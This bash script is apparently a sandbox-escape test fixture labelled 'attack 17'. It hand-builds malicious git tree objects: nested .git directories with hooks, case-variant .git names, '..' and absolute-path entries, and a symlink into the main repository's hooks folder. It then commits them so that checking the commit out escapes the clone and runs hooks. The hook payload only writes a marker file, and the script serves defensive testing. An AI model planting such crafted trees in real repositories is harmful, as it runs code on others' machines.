#!/usr/bin/env bash
# attack 17 - runs inside the fence, cwd = top of the clone. @-words are filled in by the test.
set +e
exec </dev/null
H='@HOME@'; M='@MAIN@'; P='@PORT@'; TOP=$PWD
git() { timeout 4 git "$@"; }
commit() { git -c user.name=agent -c user.email=agent@example.invalid -c commit.gpgSign=false -c core.hooksPath=/dev/null commit -q --no-verify "$@"; }
echo x >attack-17.txt; git add attack-17.txt; commit -m 'attack 17'
hook=$(printf '#!/bin/sh\n# attack-17-hook\ndate >"%s/pwned-17-hook"\n' "$H" | git hash-object -w --stdin)
blob=$(echo attack-17 | git hash-object -w --stdin)
tree() { perl -e 'my @e; while(@ARGV){my($m,$n,$s)=splice(@ARGV,0,3); push @e,[$m,$n,$s]} print map {"$_->[0] $_->[1]\0".pack("H*",$_->[2])} sort { $a->[1].($a->[0] eq "40000"?"/":"") cmp $b->[1].($b->[0] eq "40000"?"/":"") } @e' "$@" | git hash-object -t tree -w --literally --stdin; }
hooks=$(tree 100755 post-checkout "$hook" 100755 post-merge "$hook" 100755 post-index-change "$hook")
dotgit=$(tree 40000 hooks "$hooks")
up=$(tree 100644 attack-17-escaped "$blob")
upup=$(tree 40000 .. "$up")
cmd=(40000 .git "$dotgit" 40000 .GIT "$dotgit" 40000 git~1 "$dotgit" 40000 ".git " "$dotgit" 40000 .. "$up" 40000 attack-17-sub "$upup" \
     100644 ../attack-17-slash "$blob" 100644 "$H/attack-17-absolute" "$blob" 120000 attack-17-link "$(printf '%s' "$M/.git/hooks" | git hash-object -w --stdin)" \
     40000 attack-17-link/x "$hooks")
while IFS=$'\t' read -r meta name; do set -- $meta; cmd+=("${1#0}" "$name" "$3"); done < <(git ls-tree HEAD)
root=$(tree "${cmd[@]}")
[ -n "$root" ] || root=$(printf '040000 tree %s\t.git\n040000 tree %s\t..\n' "$dotgit" "$up" | git mktree)
new=$(printf 'attack 17 tree\n' | git -c user.name=agent -c user.email=a@example.invalid commit-tree "$root" -p HEAD)
[ -n "$new" ] && git update-ref HEAD "$new"
exit 0
